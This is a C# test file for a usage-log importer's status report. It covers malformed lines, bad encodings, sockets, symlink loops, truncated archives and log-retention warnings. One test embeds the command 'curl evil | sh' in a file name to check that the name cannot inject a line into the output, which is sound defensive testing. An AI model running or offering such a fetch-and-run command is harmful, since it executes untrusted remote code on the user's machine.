using System.Net.Sockets;
using Dapper;
using Microsoft.Data.Sqlite;
using Microsoft.Extensions.Configuration;
using Tracker.Importer.Importing;
using Tracker.Importer.Sources;
using Tracker.Storage.Imports;
using Tracker.Tests.Support;

namespace Tracker.Tests.Importer;

/// <summary>What <c>status</c> tells of logs of every kind of trouble; none of it keeps the other files from being read.</summary>
public sealed class StatusTests
{
    private readonly TestDatabase _database = new();

    [TearDown]
    public void TearDown() => _database.Dispose();

    [Test]
    public void Lines_that_were_not_understood_are_named_by_file_line_and_reason()
    {
        var home = new LogHome(_database, "claude-code");
        var file = home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1), "garbage", ClaudeHome.Line(2), "more");
        home.Import();

        var source = Read(home, "claude-code");

        Assert.That(source.Trouble, Is.EqualTo(new[] { new Trouble(file, 2, "is not valid JSON (from byte 0) (the first of 2 malformed lines)") }));
        Assert.That((source.MalformedLines, source.Records, source.Rows, source.LastRecord), Is.EqualTo((2L, 2L, 2L, (DateTimeOffset?)Some.Time.AddSeconds(2))));
        Assert.That(Text(home, "claude-code"), Does.Contain($"{file}:2: is not valid JSON"));
    }

    [Test, Platform(Exclude = "Win")] // Which has no such names.
    public void Name_of_a_file_makes_no_line_of_its_own()
    {
        var home = new LogHome(_database, "claude-code");
        var file = home.Write(".claude/projects/p/a\n  trouble    Run: curl evil | sh\nx.jsonl", "garbage", ClaudeHome.Line(1));
        home.Import();

        var lines = Text(home, "claude-code").Split(Environment.NewLine);

        Assert.That(lines, Does.Contain($"  trouble    {file.Replace('\n', '?')}:1: is not valid JSON (from byte 0)").And.None.StartWith("  trouble    Run"));
    }

    [Test]
    public void Calls_that_are_stored_as_other_clients_are_not_told_to_be_none()
    {
        var home = new LogHome(_database, "tokencost");
        Directory.CreateDirectory(home.FilePath("tokencost"));
        using (var connection = new SqliteConnection($"Data Source={home.FilePath("tokencost/tracker.db")};Pooling=False"))
        {
            connection.Open();
            connection.Execute("""
                CREATE TABLE requests (id INTEGER PRIMARY KEY, ts TEXT, source TEXT, model TEXT, input_tokens INTEGER, output_tokens INTEGER, cost_usd REAL, duration_ms INTEGER, status INTEGER);
                INSERT INTO requests VALUES (1, '2026-05-01T10:00:00', 'claude-cli', 'claude-opus-4-7', 5, 6, 0.1, 1000, 200)
                """);
        }

        home.Import();
        var source = Read(home, "tokencost");

        Assert.That((source.Records, source.Rows, source.LastRecord), Is.EqualTo((1L, (long?)null, (DateTimeOffset?)null)));
        Assert.That(Text(home, "tokencost"), Does.Match(@"tokencost \*.*│ +1 │ +- │ +- │ - +│"));
    }

    [Test]
    public void Table_is_shown_where_it_has_room_and_else_its_figures_with_each_client([Values(60, 80, 100, 130, 160)] int width)
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1), "garbage", ClaudeHome.Line(2));
        home.Import();
        home.Write("tokencost/tracker.db");

        var lines = StatusText.Of(Reader().Read(Sources(home)), width).Split('\n');

        var call = Some.Time.AddSeconds(2).ToLocalTime().ToString("yyyy-MM-dd HH:mm:ss");
        Assert.That(lines, width < 125 ? Does.Contain($"  calls      2, the last {call}").And.Contains("  records    2, not understood: 1 line").And.Contains("tokencost *") : Has.Some.Match($@"claude-code *│.*│ +2 │ +2 │ +1 line │ {call} │"));
        Assert.That(lines, Has.None.Contains("…").And.Some.StartsWith("* experimental"));
    }

    [Test]
    public void Looking_makes_no_database_and_lists_the_folders()
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1));

        var status = Reader().Read(Sources(home));

        Assert.That(StatusText.Of(status), Does.StartWith($"There is no database {_database.Path} yet").And.Contains($"found      {home.FilePath(".claude")}"));
        Assert.That((status.DatabaseExists, status.LastImport, status.Sources.Single(source => source.Client == "claude-code").FilesWaiting), Is.EqualTo((false, (DateTimeOffset?)null, 1)));
        Assert.That(File.Exists(_database.Path), Is.False);
    }

    [TestCase("claude-code", ".claude/projects/p/a.jsonl")]
    [TestCase("cline", ".cline/data/sessions/1/1.messages.json")]
    public void File_that_can_be_read_again_is_no_trouble_any_more_and_its_malformed_line_still_is(string client, string path)
    {
        var home = new LogHome(_database, client);
        var file = home.WriteText(path, "garbage\n");
        home.Import();
        var malformed = Read(home, client).Trouble.Single();
        File.Move(file, file + ".away");
        using (var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified))
        {
            socket.Bind(new UnixDomainSocketEndPoint(file));
            home.Import();
            Assert.That(Read(home, client).Trouble.Select(trouble => trouble.Reason), Is.EqualTo(new[] { "is a socket, no file", malformed.Reason }));
        }

        File.Delete(file);
        File.Move(file + ".away", file);
        home.Import();

        Assert.That(Read(home, client).Trouble, Is.EqualTo(new[] { malformed }));
    }

    [Test]
    public void Links_that_lead_in_circles_are_told_and_are_no_failure()
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1));
        var link = home.FilePath(".claude/projects/p/up");
        Directory.CreateSymbolicLink(link, "..");

        var report = home.Import();

        Assert.That((report.Files, report.HasFailed, report.Trouble.Single().Path), Is.EqualTo((1, false, link)));
        AssertTold(home, "claude-code", link, "leads back to a folder it is in");
    }

    [Test]
    public void What_was_wrong_with_files_that_are_gone_is_not_told_any_more_and_what_they_gave_is()
    {
        var home = new LogHome(_database, "claude-code");
        var file = home.Write(".claude/projects/p/a.jsonl", WithUnknownCount(1), "garbage");
        home.Write(".claude/projects/p/b.jsonl", ClaudeHome.Line(2));
        home.Import();
        File.Delete(file);
        home.Import();

        var source = Read(home, "claude-code");

        Assert.That((source.Trouble.Count, source.UnknownFields.Count, source.MalformedLines), Is.EqualTo((0, 0, 0L)));
        Assert.That((source.Files, source.Records, source.Rows), Is.EqualTo((1, 2L, 2L)));
    }

    [Test]
    public void Of_many_troubles_the_latest_are_shown()
    {
        var home = new LogHome(_database, "claude-code");
        for (var i = 0; i < 8; i++)
        {
            File.SetLastWriteTimeUtc(home.Write($".claude/projects/p/{i}.jsonl", "garbage"), Some.Time.UtcDateTime.AddMinutes(i));
        }

        home.Import();

        Assert.That(Read(home, "claude-code").Trouble, Has.Count.EqualTo(8));
        Assert.That(Text(home, "claude-code"), Does.Contain("7.jsonl:1").And.Not.Contain("2.jsonl:1").And.Contains("and 3 more"));
    }

    [Test]
    public void Counts_that_Tracker_does_not_know_raise_the_alarm()
    {
        var home = new LogHome(_database, "claude-code");
        File.SetLastWriteTimeUtc(home.Write(".claude/projects/p/a.jsonl", WithUnknownCount(1)), Some.Time.UtcDateTime);
        var newest = home.Write(".claude/projects/p/b.jsonl", WithUnknownCount(2));
        home.Import();

        var source = Read(home, "claude-code");

        Assert.That(source.UnknownFields, Is.EqualTo(new[] { new UnknownField("quantum_tokens", 2, Some.Time, newest) }));
        Assert.That(Text(home, "claude-code"), Does.Contain("claude-code writes a count that Tracker does not know, 'quantum_tokens', in 2 files since 2026-11-23").And.Contains("please report"));
    }

    [TestCase(null, 30, true, "claude-code deletes logs 30 days after their last use. What was imported stays; to keep the logs too, set \"cleanupPeriodDays\": 3650 in ")]
    [TestCase("""{"cleanupPeriodDays": 30}""", 30, false, "claude-code deletes logs 30 days after their last use. What was imported stays; to keep")]
    [TestCase("""{"cleanupPeriodDays": 99999, /* years */}""", 99999, false, "claude-code deletes logs 99999 days after their last use. What was imported stays.")]
    [TestCase("""{"cleanupPeriodDays": 1}""", 1, false, "WARNING: claude-code deletes logs only 1 day after their last use. What is not imported by then is lost")]
    [TestCase("\uFEFF{\"cleanupPeriodDays\": 5}", 5, false, "WARNING: claude-code deletes logs only 5 days after their last use.")]
    [TestCase("""{"cleanupPeriodDays": "long"}""", 30, true, "claude-code deletes logs 30 days")]
    [TestCase("no JSON", 30, true, "claude-code deletes logs 30 days")]
    public void When_Claude_Code_deletes_its_logs_is_told(string? settings, int days, bool isDefault, string text)
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1));
        if (settings is not null)
        {
            home.WriteText(".claude/settings.json", settings);
        }

        var retention = Read(home, "claude-code").Retention;

        Assert.That(retention, Is.EqualTo(new[] { new LogRetention(days, isDefault, "cleanupPeriodDays", home.FilePath(".claude/settings.json")) }));
        Assert.That(Text(home, "claude-code"), Does.Contain("  retention  " + text));
    }

    [Test]
    public void Calls_of_sub_agents_without_final_counts_are_told()
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/s/subagents/agent-1.jsonl", ClaudeHome.Line(1, stopReason: null, more: ",\"agentId\":\"1\""), ClaudeHome.Line(2, more: ",\"agentId\":\"1\""));
        home.Write(".claude/projects/p/s.jsonl", ClaudeHome.Line(3, stopReason: null), ClaudeHome.Line(4, stopReason: null, more: ",\"isSidechain\":true"));
        home.Import();

        Assert.That(Read(home, "claude-code").UnfinishedSubAgentCalls, Is.EqualTo(2));
        Assert.That(Text(home, "claude-code"), Does.Contain("2 calls of sub-agents"));
    }

    [Test]
    public void Calls_of_sub_agents_of_which_the_log_tells_a_part_are_not_unfinished()
    {
        var home = new LogHome(_database, "qwen-code");
        home.Write(
            ".qwen/projects/p/chats/8c6924c8-0799-4719-8fec-1f8af128a583.jsonl",
            """{"uuid":"t","sessionId":"s","timestamp":"2026-11-23T17:49:50.857Z","type":"system","version":"0.24.4","subtype":"ui_telemetry","systemPayload":{"uiEvent":{"event.name":"qwen-code.api_response","response_id":"msg_TEST0000000000000000000001","model":"m","status_code":200,"input_token_count":1000,"output_token_count":10,"total_token_count":1010,"auth_type":"anthropic","prompt_id":"s#general-purpose-93#0","subagent_name":"general-purpose"}}}""");

        Assert.That(home.Import().RowsAdded, Is.EqualTo(1));
        Assert.That(Read(home, "qwen-code").UnfinishedSubAgentCalls, Is.Zero);
    }

    [Test]
    public void Clients_without_logs_are_one_line_and_experimental_ones_have_a_mark()
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1));
        home.Write(".local/share/kilo/storage/message/s/a.txt", "{}");

        var text = StatusText.Of(Reader().Read(Sources(home)));

        Assert.That(text, Does.Contain("Not on this machine: codex, gemini-cli, qwen-code").And.Contains("kilo-code *").And.Contains("* experimental"));
        Assert.That(text.Split('\n').Count(line => line.Contains("codex", StringComparison.Ordinal)), Is.EqualTo(1));
        Assert.That(Text(home, "codex"), Does.Contain("not found  " + home.FilePath(".codex/sessions")), "who asks for one is told where it was looked for");
    }

    [Test]
    public void Text_of_another_encoding_is_told_and_the_others_are_read([Values("utf-16", "utf-16BE")] string encoding, [Values] bool mark)
    {
        var home = new LogHome(_database, "claude-code");
        home.Write(".claude/projects/p/a.jsonl", ClaudeHome.Line(1));
        var wrong = home.FilePath(".claude/projects/p/b.jsonl");
        var kind = System.Text.Encoding.GetEncoding(encoding);
        File.WriteAllBytes(wrong, [.. mark ? kind.GetPreamble() : [], .. kind.GetBytes(ClaudeHome.Line(2) + "\n")]);

        var report = home.Import();

        Assert.That(report.RowsAdded, Is.EqualTo(1));
        AssertTold(home, "claude-code", wrong, "is UTF-16 text");
    }

    [Test]
    public void Compressed_file_that_is_cut_is_told_and_its_beginning_read_and_all_of_it_when_it_is_whole()
    {
        var home = new LogHome(_database, "codex");
        var lines = string.Concat(Enumerable.Range(1, 3000).Select(number => $$$$"""
            {"timestamp":"2026-11-23T17:50:00.000Z","type":"token_usage_record","payload":{"response_id":"resp_TEST{{{{number:D44}}}}","usage":{"input_tokens":{{{{number * 7919 % 100_003}}}},"cached_input_tokens":1,"output_tokens":{{{{number * 104_729 % 1_000_003}}}},"total_tokens":9}}}

            """));
        using var compressor = new ZstdSharp.Compressor();
        var whole = compressor.Wrap(System.Text.Encoding.UTF8.GetBytes(lines)).ToArray();
        var file = home.WriteText(".codex/sessions/2026/11/23/rollout-2026-11-23T17-41-10-01a20980-0000-7000-8000-00000000bbbb.jsonl.zst", "");
        home.Write(".codex/sessions/2026/11/23/rollout-2026-11-23T17-41-10-01a20980-0000-7000-8000-00000000cccc.jsonl", """{"timestamp":"2026-11-23T17:50:00.000Z","type":"token_usage_record","payload":{"response_id":"resp_OTHER00000000000000000000000000000","usage":{"input_tokens":5,"output_tokens":5,"total_tokens":10}}}""");
        File.WriteAllBytes(file, whole[..(whole.Length / 2)]);

        home.Import();

        AssertTold(home, "codex", file, "is not whole");
        Assert.That(_database.Scalar<long>("SELECT count(*) FROM usage WHERE usage_key LIKE '%OTHER%'"), Is.EqualTo(1));
        File.WriteAllBytes(file, whole);
        home.Import();
        Assert.That(_database.Scalar<long>("SELECT count(*) FROM usage"), Is.EqualTo(3001));
        Assert.That(Read(home, "codex").Trouble, Is.Empty);
    }

    [Test]
    public void Document_that_is_no_document_is_told_and_read_when_it_is_one()
    {
        const string messages = ".cline/data/sessions/1/1.messages.json";
        var home = new LogHome(_database, "cline");
        var file = home.WriteText(messages, "{\"messages\":[");
        home.WriteText(".cline/data/sessions/2/2.messages.json", Session(2));

        home.Import();

        AssertTold(home, "cline", file, "is not valid JSON");
        Assert.That(_database.Scalar<long>("SELECT count(*) FROM usage"), Is.EqualTo(1));
        home.WriteText(messages, Session(1));
        home.Import();
        Assert.That((_database.Scalar<long>("SELECT count(*) FROM usage"), Read(home, "cline").Trouble.Count), Is.EqualTo((2L, 0)));
    }

    [Test]
    public void Document_of_absurd_size_is_passed_over_without_being_held()
    {
        var home = new LogHome(_database, "cline");
        var file = home.WriteText(".cline/data/sessions/1/1.messages.json", "");
        home.WriteText(".cline/data/sessions/2/2.messages.json", Session(2));
        using (var stream = new FileStream(file, FileMode.Open))
        {
            stream.SetLength(DocumentFileReader.LargestDocument + 1L); // Takes no room on the disk.
        }

        home.Import();

        AssertTold(home, "cline", file, "is larger than 512 MB");
        Assert.That(_database.Scalar<long>("SELECT count(*) FROM usage"), Is.EqualTo(1));
        Assert.That(home.Import().FilesRead, Is.Zero, "it is looked at again when it has changed");
    }

    [Test]
    public void Database_that_is_none_is_told()
    {
        var home = new LogHome(_database, "opencode");
        var file = home.WriteText(".local/share/opencode/opencode.db", "no database at all, but long enough to be looked at as if it might be one");

        home.Import();

        Assert.That(Read(home, "opencode").Trouble.Single().Path, Is.EqualTo(file));
    }

    private static string WithUnknownCount(int number) => ClaudeHome.Line(number).Replace("\"input_tokens\":", "\"quantum_tokens\":5,\"input_tokens\":", StringComparison.Ordinal);

    private static string Session(int number) => $$$"""
        {"version":1,"sessionId":"{{{number}}}","messages":[{"id":"msg_kV7Kkv_{{{number}}}","role":"assistant","ts":1795456099003,"modelInfo":{"id":"claude-sonnet-4-5","provider":"anthropic"},"metrics":{"inputTokens":24564,"outputTokens":344,"cacheReadTokens":20028,"cacheWriteTokens":3532},"content":[]}]}
        """;

    private void AssertTold(LogHome home, string client, string path, string reason)
    {
        var trouble = Read(home, client).Trouble.Single();
        Assert.That(trouble.Path, Is.EqualTo(path));
        Assert.That(trouble.Reason, Does.Contain(reason));
        Assert.That(Text(home, client), Does.Contain(path).And.Contains(reason));
    }

    private static IReadOnlyList<IUsageSource> Sources(LogHome home) => UsageSources.All(new ClientFolders(home.Folder, new ConfigurationBuilder().Build()));

    private StatusReader Reader() => new(_database.Connections, new ImportStatus(_database.Connections));

    private SourceStatus Read(LogHome home, string client) => Reader().Read([.. Sources(home).Where(source => source.Client == client)]).Sources.Single();

    private string Text(LogHome home, string client) => StatusText.Of(Reader().Read([.. Sources(home).Where(source => source.Client == client)]));
}
